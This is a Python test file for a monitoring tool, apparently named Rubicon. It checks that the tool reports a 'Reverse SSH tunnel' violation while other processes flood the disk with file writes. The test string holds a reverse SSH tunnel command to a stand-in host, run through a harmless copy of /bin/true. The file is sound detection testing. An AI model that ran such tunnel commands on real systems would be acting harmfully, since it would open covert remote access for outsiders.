"""A violation is told while another process writes files as fast as it can."""

from __future__ import annotations

import json
import shutil

from .driver import Rubicon, until

FLOOD = "while [ ! -e stop ]; do for i in 0 1 2 3 4 5 6 7 8 9; do echo >f$i; done; done"


def test_a_violation_is_told_during_a_flood(rubicon: Rubicon) -> None:
    shutil.copy("/bin/true", rubicon.work / "ssh")
    lines = rubicon.folder / "lines"
    script = f"({FLOOD}) & ({FLOOD}) & ./ssh -N -R 2222:localhost:22 ops@203.0.113.66; wait"
    started = rubicon.start("run", "--jsonl", lines, "--trace", rubicon.trace, "--", "sh", "-c", script)
    until(lambda: lines.exists() and "Reverse SSH tunnel" in lines.read_text(), "the violation")
    assert started.process.poll() is None
    (rubicon.work / "stop").touch()
    assert started.end() == 0, started.err
    assert rubicon.verify() == (0, "intact")
    *_, closing = (json.loads(line) for line in lines.read_text().splitlines())
    summary = closing["rubicon"]["summary"]
    assert summary["losses"]["critical"] == 0
    assert {action: summary["actions"][action] for action in ("fork", "exec", "exit")} == {
        "fork": 3,
        "exec": 2,
        "exit": 4,
    }
